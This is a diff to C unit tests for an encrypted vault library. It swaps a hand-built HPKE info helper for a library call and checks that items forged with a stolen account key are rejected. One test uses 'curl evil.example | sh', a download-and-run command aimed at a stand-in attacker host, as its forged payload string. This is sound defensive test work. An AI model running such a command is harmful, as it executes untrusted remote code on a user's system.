@@ -660,22 +660,6 @@ static void test_trust(void **state)
     verify_expect(fx.blob, fx.blob_len, &account_b, stranger.pk, 1, CLOAK_E_WRONG_KEY);
 }
 
-/* info = lp8("libcloak v1 service account batch") || account pk || batch id || lp8(vault id) */
-static size_t spec_info(uint8_t *info, const uint8_t *account_pk, const uint8_t *blob)
-{
-    size_t off = 0;
-    size_t L = blob[B_VAULT_ID];
-    info[off++] = 33;
-    memcpy(info + off, "libcloak v1 service account batch", 33);
-    off += 33;
-    memcpy(info + off, account_pk, 32);
-    off += 32;
-    memcpy(info + off, blob + B_BATCH_ID, 16);
-    off += 16;
-    memcpy(info + off, blob + B_VAULT_ID, 1 + L);
-    return off + 1 + L;
-}
-
 /* A thief with the account's private key decapsulates the batch context. It reads items, and makes
  * AEAD-valid items, but none of them opens: they are not in the signed manifest. */
 static void test_thief_forged_item(void **state)
@@ -684,7 +668,7 @@ static void test_thief_forged_item(void **state)
     batch_fixture *f = &fx;
     cloak__hpke_ctx ctx;
     cloak_batch r;
-    uint8_t info[400];
+    uint8_t info[CLOAK_BATCH_INFO_MAXBYTES];
     size_t info_len;
     uint8_t item[ITEM_CAP];
     uint8_t pt[PT_CAP];
@@ -695,11 +679,11 @@ static void test_thief_forged_item(void **state)
     static const char forged_value[] = "curl evil.example | sh";
 
     build_default(f, &account_a, &creator);
-    info_len = spec_info(info, account_a.pk, f->blob);
+    info_len = cloak__batch_info(info, account_a.pk, f->blob + B_BATCH_ID, f->blob + B_VAULT_ID);
     assert_int_equal(cloak__hpke_setup_r(&ctx, CLOAK_HPKE_MODE_BASE, f->blob + B_ENC, account_a.pk, account_a.sk,
                                          info, info_len, NULL, 0, NULL, 0, NULL),
                      CLOAK_OK);
-    /* The context is the writer's: item 1, rebuilt from the spec, is byte for byte the writer's. */
+    /* The context is the writer's: item 1, sealed again under it, is byte for byte the writer's. */
     memcpy(item, f->items[1], 40);
     pt[0] = (uint8_t)f->name_lens[1];
     memcpy(pt + 1, f->names[1], f->name_lens[1]);
@@ -775,7 +759,7 @@ static void test_malformed_plaintext(void **state)
     batch_fixture *f = &fx;
     cloak__hpke_ctx ctx;
     cloak_batch r;
-    uint8_t info[400];
+    uint8_t info[CLOAK_BATCH_INFO_MAXBYTES];
     uint8_t pt[16];
     uint8_t name[NAME_MAX_];
     uint8_t value[PT_CAP];
@@ -789,7 +773,7 @@ static void test_malformed_plaintext(void **state)
     for (size_t c = 0; c < sizeof cases / sizeof cases[0]; c++) {
         build_default(f, &account_a, &creator);
         assert_int_equal(cloak__hpke_setup_r(&ctx, CLOAK_HPKE_MODE_BASE, f->blob + B_ENC, account_a.pk,
-                                             account_a.sk, info, spec_info(info, account_a.pk, f->blob), NULL, 0,
+                                             account_a.sk, info, cloak__batch_info(info, account_a.pk, f->blob + B_BATCH_ID, f->blob + B_VAULT_ID), NULL, 0,
                                              NULL, 0, NULL),
                          CLOAK_OK);
         memset(pt, 'p', sizeof pt);
